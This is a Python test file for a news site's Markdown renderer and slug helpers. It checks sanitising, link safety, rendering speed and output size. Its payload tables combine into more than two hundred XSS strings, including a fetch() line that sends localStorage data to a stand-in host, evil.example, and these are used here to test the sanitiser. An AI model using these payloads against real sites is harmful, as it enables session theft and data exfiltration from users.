"""Rendering of Markdown, and slugs of articles."""

import itertools
import re
import time
from html.parser import HTMLParser
from typing import Any

import pytest
from api.community.news.rules import (
    MAX_HTML_LENGTH,
    TAGS,
    fits,
    free_slug,
    render,
    slug_of,
    summarise,
)
from typing_extensions import override

SCRIPTS = (
    "alert(1)",
    "alert`1`",
    "eval(atob('YWxlcnQoMSk='))",
    "fetch('//evil.example/'+localStorage.user)",
)
SHAPES = (
    "<script>{0}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{0}",
    "<img src=x onerror={0}>",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<a href='javascript:{0}'>x</a>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={0}></style></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'></noscript>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<style>@import '//evil.example/x.css';</style>{0}",
    "<base href=//evil.example/>{0}",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<object data=javascript:{0}></object>",
    "<template><script>{0}</script></template>",
    "[x](javascript:{0})",
    "[x](JaVaScRiPt:{0})",
    "[x](java&#10;script:{0})",
    "[x](<java\tscript:{0}>)",
    "[x](\x01javascript:{0})",
    "[x](&#106;avascript:{0})",
    "[x](vbscript:{0})",
    "[x](data:text/html;base64,PHNjcmlwdD4={0})",
    "[x](//evil.example/{0})",
    "[x](/\\evil.example/{0})",
    "[x](\\\\evil.example/{0})",
    "[x](https:evil.example/{0})",
    "[x](https:///evil.example)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://kof.example/{0})",
    "[x](evil.example/{0})",
    "![x](javascript:{0})",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4={0})",
    "<javascript:{0}>",
    "<data:text/html,{0}>",
    '[x](https://ok.example "\'\\" onmouseover={0} x=\\"")',
    "[x][y]\n\n[y]: javascript:{0} 'z'",
    "```<img src=x onerror={0}>\n<script>{0}</script>\n```",
    "`<img src=x onerror={0}>`",
    "| a |\n|:-:|\n| <img src=x onerror={0}> |",
    "# <img src=x onerror={0}>",
    "> > > <script>{0}</script>",
    "- [x](javascript:{0})\n- <b onclick={0}>x</b>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "<!--><img src=x onerror={0}>-->",
    "<![CDATA[<script>{0}</script>]]>",
    "<a\nhref\n=\njavascript:{0}>x",
    "{0}<plaintext><xmp><listing>",
    "<video><source onerror={0}></video>",
    "<input autofocus onfocus={0}>",
)
HOSTILE = [shape.format(script) for shape, script in itertools.product(SHAPES, SCRIPTS)]
SAFE_LINK = re.compile(r"https?://[^/\\]|mailto:[^/\\]|/[^/\\]|/$", re.IGNORECASE)


class Collector(HTMLParser):
    """Collects what a browser would parse from HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    @override
    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.found.append((tag, dict(attrs)))

    @override
    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", {}))


def parsed(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector.found


def test_there_are_two_hundred_hostile_texts() -> None:
    assert len(set(HOSTILE)) >= 200


@pytest.mark.parametrize("body", HOSTILE)
def test_nothing_hostile_becomes_more_than_text(body: str) -> None:
    for tag, attributes in parsed(render(body)):
        assert tag in TAGS, tag
        assert attributes.keys() <= {"href", "title", "rel", "start"}, attributes
        href = attributes.get("href")
        assert href is None or SAFE_LINK.match(href), href


@pytest.mark.parametrize("body", ["[x](javascript:alert(1))", "[x](//evil.example)", "[x](a/b)"])
def test_a_link_that_leads_nowhere_of_ours_has_no_address(body: str) -> None:
    assert "href" not in render(body)


@pytest.mark.parametrize(
    "address", ["https://caf.example/a?b=1&c=2", "http://x.example", "mailto:a@b.example", "/news"]
)
def test_links_lead_out_without_saying_where_from(address: str) -> None:
    ((_, _), (tag, attributes)) = parsed(render(f"[Read]({address})"))

    assert tag == "a"
    assert attributes == {"href": address, "rel": "noopener noreferrer nofollow"}


def test_markdown_is_written_as_it_is_meant() -> None:
    body = "# Derby\n\nGates **open** at *three*, ~~four~~.\n\n- one\n- two\n\n> Sing\n\n`code`"

    assert render(body) == (
        "<h2>Derby</h2>\n<p>Gates <strong>open</strong> at <em>three</em>, <s>four</s>.</p>\n"
        "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n<blockquote>\n<p>Sing</p>\n</blockquote>\n"
        "<p><code>code</code></p>\n"
    )
    table = render("| a | b |\n|:-:|--:|\n| 1 | 2 |")
    assert "<td>1</td>" in table
    assert "style" not in table


@pytest.mark.parametrize(
    "body",
    [
        "[" * 20_000,
        "*" * 20_000,
        "> " * 10_000,
        "- " * 10_000,
        "`" * 19_999,
        "[x](" * 5_000,
        "_a" * 10_000,
        "|" * 20_000,
        "<" * 20_000,
        "![" * 10_000,
        "a**b" * 5_000,
    ],
    ids=lambda body: body[:4],
)
def test_the_longest_text_is_rendered_in_a_moment(body: str) -> None:
    began = time.process_time()
    render(body)

    assert time.process_time() - began < 3


WIDE = "|".join("a" * 100) + "\n" + "|".join("-" * 100) + "\n"


@pytest.mark.parametrize(
    "body",
    [
        (WIDE + "a|\n" * 10_000)[:20_000],
        ((WIDE + "|\n" * 400 + "\n") * 20)[:20_000],
        "[](/)" * 4000,
    ],
    ids=["one table", "many tables", "links"],
)
def test_a_text_that_becomes_much_more_html_does_not_fit(body: str) -> None:
    assert len(body) <= 20_000
    assert not fits(body)


def test_a_text_that_fits_becomes_no_more_html_than_is_allowed() -> None:
    row = "| Enyimba | 38 | 20 | 10 | 8 | 70 |\n"
    table = "| Club | P | W | D | L | Pts |\n|--|--|--|--|--|--|\n" + row * 500
    for body in (table, "word " * 4000, '"' * 20_000, "- a\n" * 5000, ""):
        assert fits(body)
        assert len(render(body)) <= MAX_HTML_LENGTH


def test_a_summary_is_the_beginning_without_marks() -> None:
    assert summarise("# Hi\n\nTom & **Ada** <3") == "Hi Tom & Ada <3"
    long = summarise("word " * 100)
    assert len(long) <= 201
    assert long.endswith("word…")
    assert summarise("") == ""


def test_a_slug_is_made_of_the_title_and_is_nobody_elses() -> None:
    assert slug_of("Derby on Saturday!") == "derby-on-saturday"
    assert slug_of("Ọjọ́ Àìkú") == "ojo-aiku"
    assert slug_of("أخبار") == "article"
    assert slug_of("x" * 200) == "x" * 80
    assert free_slug("a", {"b"}) == "a"
    assert free_slug("a", {"a", "a-2", "a-4"}) == "a-3"
